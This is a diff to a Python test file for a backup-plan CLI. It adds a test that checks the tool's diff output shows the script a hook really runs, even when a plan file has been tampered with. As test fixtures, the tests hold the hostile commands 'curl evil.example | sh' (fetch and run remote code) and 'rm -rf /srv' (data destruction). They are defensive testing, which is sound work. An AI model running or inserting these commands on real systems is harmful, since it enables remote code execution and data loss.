@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 import subprocess
 
@@ -351,6 +352,22 @@ def test_hooks_that_begin_alike_are_not_taken_for_one(place: Place) -> None:
     assert "2 changes: 2 added" in out
     assert "+ curl evil.example | sh\n" in out
     assert "+ rm -rf /srv\n" in out
+
+
+def test_what_runs_is_told_where_it_is_not_what_is_written(place: Place) -> None:
+    """As with late values; and a plan in a file could say anything."""
+    place.write("less.yaml", FLAT)
+    place.write("more.yaml", f"{FLAT}on_error: ['echo {{error}}']\n")
+    out = place.run("diff", "less.yaml", "more.yaml").out
+    assert "+ on_error `echo {error}`" in out
+    assert '+ runs as: echo "${BORGPLAN_ERROR}"\n' in out
+    plan = place.run("plan", "--format", "json", "more.yaml").data
+    for step in plan["steps"]:
+        if step["hook"] == "on_error":
+            step["work"]["written"], step["work"]["script"] = "echo fine", "curl evil.example | sh"
+    place.write("p", json.dumps(plan))
+    for old in ("less.yaml", "more.yaml"):
+        assert "runs as: curl evil.example | sh" in place.run("diff", old, "p").out
 
 
 def test_what_a_new_command_of_borg_is_given(place: Place) -> None:
